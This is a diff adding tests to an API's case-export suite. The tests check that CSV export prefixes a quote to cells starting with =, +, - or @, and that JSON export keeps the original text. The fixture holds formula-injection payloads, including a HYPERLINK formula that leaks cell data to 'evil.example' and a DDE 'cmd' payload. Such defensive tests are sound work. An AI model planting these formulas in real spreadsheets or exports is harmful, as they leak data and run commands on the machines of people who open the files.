@@ -235,6 +235,60 @@ describe('Cases: export (contract §4)', () => {
     expect(emptyJson.body).toEqual([]);
   });
 
+  describe('safe for spreadsheets', () => {
+    const FORMULAS = {
+      summary: '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
+      description: '+cmd|" /C calc"!A0',
+      residentName: '@SUM(1+1)',
+      internalRef: '-2+3',
+      residentAddress: '=1+1\nSecond line',
+    };
+    let owner: KeyedUser;
+    let formula: CaseBody;
+    let plain: CaseBody;
+
+    beforeAll(async () => {
+      owner = await suite.fixtures.keyedUser('council', 'admin');
+      formula = await createCase(suite.request, owner.key, FORMULAS);
+      plain = await createCase(suite.request, owner.key, {
+        summary: 'A plain summary - with a dash',
+        residentName: "O'Neill",
+      });
+    });
+
+    it('cells starting with =, +, - or @ get a leading quote; the JSON export keeps the text as given', async () => {
+      const csvText = (await suite.request('GET', '/api/cases/export?format=csv', { key: owner.key })).text;
+      const records = parseCsvRecords(csvText).records;
+      const record = records.find((row) => row.id === formula.id);
+      expect(record).toMatchObject({
+        summary: `'${FORMULAS.summary}`,
+        description: `'${FORMULAS.description}`,
+        residentName: `'${FORMULAS.residentName}`,
+        internalRef: `'${FORMULAS.internalRef}`,
+        residentAddress: `'${FORMULAS.residentAddress}`,
+      });
+      expect(records.find((row) => row.id === plain.id)).toMatchObject({
+        summary: 'A plain summary - with a dash',
+        residentName: "O'Neill",
+      });
+      const jsonRows = (await suite.request('GET', '/api/cases/export?format=json', { key: owner.key }))
+        .body as CaseBody[];
+      expect(jsonRows.find((row) => row.id === formula.id)).toMatchObject(FORMULAS);
+    });
+
+    it('?bom=true starts the CSV with a UTF-8 byte order mark; without it there is none', async () => {
+      const withBom = await suite.request('GET', '/api/cases/export?format=csv&bom=true', { key: owner.key });
+      expect(withBom.status).toBe(200);
+      expect(withBom.text.startsWith('\uFEFFid,')).toBe(true);
+      expect(parseCsvRecords(withBom.text.slice(1)).records).toHaveLength(2);
+      for (const params of ['format=csv', 'format=csv&bom=false']) {
+        const without = await suite.request('GET', `/api/cases/export?${params}`, { key: owner.key });
+        expect(without.text.startsWith('id,')).toBe(true);
+      }
+      expectFieldError(await suite.request('GET', '/api/cases/export?bom=yes', { key: owner.key }), 400, 'bom');
+    });
+  });
+
   it('needs cases:read (a cases:write key gets 403)', async () => {
     const writer = await suite.fixtures.key(admin.tenant, admin.owner, ['cases:write']);
     const response = await suite.request('GET', '/api/cases/export?format=json', { key: writer.key });
